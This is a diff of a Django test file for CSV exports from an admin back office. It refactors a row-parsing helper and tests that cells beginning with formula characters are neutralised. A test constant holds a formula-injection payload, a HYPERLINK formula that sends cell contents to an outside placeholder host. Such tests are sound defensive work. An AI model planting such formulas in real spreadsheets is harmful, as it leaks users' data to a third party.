@@ -1,13 +1,10 @@
 """Spreadsheets of the admin: the columns of the table, and no formula."""
 
-import csv
 import io
 from decimal import Decimal
-from typing import Any
 
 import pytest
 from django.contrib.auth import get_user_model
-from django.http import HttpResponse
 from django.test import Client
 from django.urls import reverse
 from django.utils.functional import lazystr as lazy_text
@@ -15,15 +12,10 @@ from openpyxl import load_workbook
 
 from hub.backoffice.exports import csv_lines, neutralise
 from hub.people.models import PersonCategory
+from tests.csv_exports import csv_rows
 from tests.factories import NewsletterPageFactory, PersonFactory, ResourcePageFactory
 
 FORMULA = '=HYPERLINK("https://example.org/?"&A1)'
-
-
-def rows_of(response: HttpResponse) -> list[dict[str, Any]]:
-    text = b"".join(response.streaming_content).decode("utf-8")
-    assert text.startswith("\ufeff")
-    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\u00a0@", "＝"])
@@ -48,7 +40,7 @@ def test_cells_other_than_texts_cannot_be_formulas() -> None:
 def test_csv_of_people_has_the_columns_of_the_list(superuser_client: Client) -> None:
     PersonFactory(name="Anaïs L’Hévéder", category=PersonCategory.ELU)
     url = reverse("wagtailsnippets_people_person:list")
-    (row,) = rows_of(superuser_client.get(url, {"export": "csv"}))
+    (row,) = csv_rows(superuser_client.get(url, {"export": "csv"}))
     assert row["Nom"] == "Anaïs L’Hévéder"
     assert row["Catégorie"] == "Élu·e"
     assert row["Fonction"] == ""
@@ -56,7 +48,7 @@ def test_csv_of_people_has_the_columns_of_the_list(superuser_client: Client) -> 
 
 def test_csv_of_a_list_cannot_run_a_formula(superuser_client: Client) -> None:
     ResourcePageFactory(title=FORMULA, author="@auteur")
-    (row,) = rows_of(superuser_client.get(reverse("resources:index"), {"export": "csv"}))
+    (row,) = csv_rows(superuser_client.get(reverse("resources:index"), {"export": "csv"}))
     assert row["Titre"] == f"'{FORMULA}"
     assert row["Auteur"] == "'@auteur"
 
